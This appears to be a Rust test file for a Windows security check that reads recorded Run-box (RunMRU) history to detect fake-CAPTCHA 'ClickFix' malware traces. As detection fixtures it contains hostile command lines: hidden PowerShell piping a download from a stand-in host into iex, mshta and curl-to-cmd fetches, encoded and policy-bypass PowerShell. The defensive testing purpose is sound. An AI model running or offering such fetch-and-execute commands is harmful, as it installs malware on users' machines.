//! The Run-box trace over recorded `RunMRU` lines. This file and `run_box.rs` name script
//! hosts to recognise them in what the person typed; TựKiểm never starts one
//! (`tests/no_script_host.rs` allows exactly these two files besides the refusal list).

use super::*;
use crate::checks::scenario::ScenarioEnv;
use crate::checks::scenario_facts::RecordedFacts;
use crate::checks::{Check, Finding, OsKind, Status};

/// 2026-12-07 12:00 UTC.
const NOW: i64 = 1_796_644_800;

fn windows(facts: &str) -> ScenarioEnv {
    ScenarioEnv::new(OsKind::Windows, "/nonexistent", NOW)
        .with_facts(RecordedFacts::parse(facts).unwrap())
}

fn run(check: &dyn Check, env: &ScenarioEnv) -> Finding {
    let mut out = check.run(env);
    assert_eq!(out.findings.len(), 1);
    out.findings.remove(0)
}

const CLICKFIX: &str = "powershell -w hidden -c \"iwr https://cdn.verify-human.example/c.txt?token=SECRET123 | iex\"          # I am not a robot - reCAPTCHA ID 2817\\1";

#[test]
fn a_fake_captcha_powershell_line_is_a_stealer_trace_naming_program_and_domain_only() {
    let t = classify(CLICKFIX);
    assert_eq!(t.program, "powershell");
    assert!(t.domains.contains("cdn.verify-human.example"));
    assert!(
        t.signs.contains("pipe-to-shell") && t.signs.contains("padded"),
        "{:?}",
        t.signs
    );
    let facts = format!(
        "[registry.'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU']\n\
         a = {CLICKFIX:?}\nb = \"notepad\\\\1\"\nMRUList = \"ab\"\n"
    );
    let f = run(&RunBoxCheck, &windows(&facts));
    assert_eq!(f.status, Status::Critical);
    let shown = serde_json::to_string(&f).unwrap();
    assert!(
        !shown.contains("SECRET123") && !shown.contains("c.txt") && !shown.contains("robot"),
        "{shown}"
    );
    assert!(shown.contains("cdn.verify-human.example"));
    assert!(
        matches!(&f.actions[0], crate::checks::Action::OpenIncident { incident, .. } if incident == "malware")
    );
}

#[test]
fn ordinary_run_box_lines_are_not_traces() {
    for line in [
        "notepad\\1",
        "cmd\\1",
        "powershell\\1",
        "calc\\1",
        "\\\\fileserver\\share\\1",
        "control printers\\1",
        "\"C:\\Program Files\\App\\app.exe\"\\1",
        "https://dichvucong.gov.vn\\1",
    ] {
        assert!(
            !classify(line).is_suspicious(),
            "{line}: {:?}",
            classify(line).signs
        );
    }
    for line in [
        "mshta https://x.example/a.hta\\1",
        "cmd /c start /min powershell -enc SQBFAFgA\\1",
        "curl -s https://x.example/p | cmd\\1",
        "conhost --headless powershell -e SQBFAFgA\\1",
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -ep bypass -file x.ps1\\1",
    ] {
        assert!(classify(line).is_suspicious(), "{line}");
    }
}

#[test]
fn a_huge_run_box_list_or_entry_is_read_within_bounds_and_stays_quiet_on_text() {
    let mut facts = String::from(
        "[registry.'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU']\n",
    );
    for i in 0..10_000 {
        facts.push_str(&format!("v{i} = \"notepad\\\\1\"\n"));
    }
    let f = run(&RunBoxCheck, &windows(&facts));
    assert_eq!(f.status, Status::Ok);
    assert_eq!(f.evidence["entries"], 64);
    let huge = format!("powershell -c iex{}\\1", " ".repeat(1_000_000));
    let t = classify(&huge);
    assert!(t.signs.contains("very-long"));
    let bidi = "notepad \u{202E}exe.tpircs\\1";
    assert!(!classify(bidi).is_suspicious());
    let hidden = "powershell\u{200B} -c \"irm https://a.example | iex\"\\1";
    assert!(classify(hidden).signs.contains("hidden-characters"));
}

/// A Run box whose lines are `a` (the fake CAPTCHA) and `b` (`notepad`), in `order` (a TOML
/// value), written at `written` (a TOML value: a time, or an error code).
fn dated_run_box(order: &str, written: &str) -> ScenarioEnv {
    windows(&format!(
        "[registry.'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU']\n\
         a = {CLICKFIX:?}\nb = \"notepad\\\\1\"\nMRUList = {order}\n\
         [registry_written]\n\
         'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU' = {written}\n"
    ))
}

fn date_arg(f: &Finding) -> Option<String> {
    f.summary
        .args
        .iter()
        .find(|(name, _)| name == "date")
        .map(|(_, d)| format!("{d:?}"))
}

#[test]
fn a_trace_that_is_the_newest_line_is_dated_by_the_keys_last_write_time() {
    let f = run(
        &RunBoxCheck,
        &dated_run_box(r#""ab""#, "2026-11-17T02:41:09Z"),
    );
    assert_eq!(f.status, Status::Critical);
    assert_eq!(f.summary.id, "posture-runbox-found-domains-dated");
    assert_eq!(f.evidence["last_run"], "2026-11-17");
    let date = date_arg(&f).unwrap();
    assert!(date.contains("2026") && date.contains("17"), "{date}");
    assert!(matches!(
        &f.actions[0],
        crate::checks::Action::OpenIncident { detected, .. } if detected == "2026-11-17"
    ));
}

#[test]
fn a_trace_that_is_not_the_newest_line_gets_no_date_the_key_was_written_for_another() {
    let f = run(
        &RunBoxCheck,
        &dated_run_box(r#""ba""#, "2026-11-17T02:41:09Z"),
    );
    assert_eq!(f.status, Status::Critical);
    assert_eq!(f.summary.id, "posture-runbox-found-domains");
    assert!(date_arg(&f).is_none() && !f.evidence.contains_key("last_run"));
}

#[test]
fn an_absurd_or_unreadable_write_time_gives_no_date_and_the_same_finding() {
    let undated = run(
        &RunBoxCheck,
        &windows(&format!(
            "[registry.'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU']\n\
         a = {CLICKFIX:?}\nb = \"notepad\\\\1\"\nMRUList = \"ab\"\n"
        )),
    );
    assert_eq!(undated.summary.id, "posture-runbox-found-domains");
    for written in [
        // FILETIME zero, before Windows 10, a year from now, a clock far in the future.
        "1601-01-01T00:00:00Z",
        "2009-10-22T00:00:00Z",
        "2027-12-07T12:00:00Z",
        "9999-12-31T23:59:59Z",
        "\"access-denied\"",
        "\"timed-out\"",
    ] {
        let f = run(&RunBoxCheck, &dated_run_box(r#""ab""#, written));
        assert_eq!(f, undated, "{written}");
    }
    // An MRUList that is not a letter list (a control or bidi character first, a number, empty)
    // names no newest line.
    for order in [r#""\u202Eab""#, r#""\u0001ab""#, r#""""#, r#""Zab""#, "7"] {
        let f = run(&RunBoxCheck, &dated_run_box(order, "2026-11-17T02:41:09Z"));
        assert_eq!(f, undated, "{order:?}");
    }
}
